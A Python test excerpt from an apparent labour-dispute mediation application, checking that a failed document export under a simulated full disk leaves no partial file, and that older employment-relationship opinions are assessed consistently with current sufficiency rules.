def test_an_export_that_fails_leaves_no_partial_file(desk, rendered, tmp_path, monkeypatch) -> None:
    import errno

    from mediation_desk.domain.errors import BookError

    d, _ = desk
    view, _data = rendered["mediation_agreement"]
    target = tmp_path / "out" / "协议.docx"

    def full(fd):  # noqa: ANN001, ANN202
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr("mediation_desk.services.documents.os.fsync", full)
    with pytest.raises(BookError) as err:
        sd.export_document(d.book.uow, d.staff, document_id=view.id, target_path=target)
    assert "未导出" in err.value.zh
    assert not target.exists() and list(target.parent.iterdir()) == []


def test_an_opinion_saved_before_the_sufficiency_flag_is_judged_the_same_way() -> None:
    from mediation_desk.services.worksheets import assess

    for answers, sufficient in (({"time_autonomy": "free", "continuity": "occasional"}, False),
                                ({"time_autonomy": "controlled", "process_control": "dominant",
                                  "rules_and_discipline": "employer_discipline"}, True)):
        old = assess(answers).as_dict()
        for key in ("sufficient", "headline", "unsupported_factors"):
            old.pop(key)
        op = sd.relationship_opinion_context(old, decision="confirmed", on=DOC_DATE)
        assert op["sufficient"] is sufficient
        assert op["category"].startswith("信息不足") is not sufficient
        assert all(f["evidence_text"] == "未关联证据" for f in op["factors"] if f["answered"])
        assert "自2021年4月1日起执行" in op["minimum_wage"] and op["minimum_wage_warning"]
        assert any("洪人社发〔2022〕88号" in d for d in op["cited_documents"])
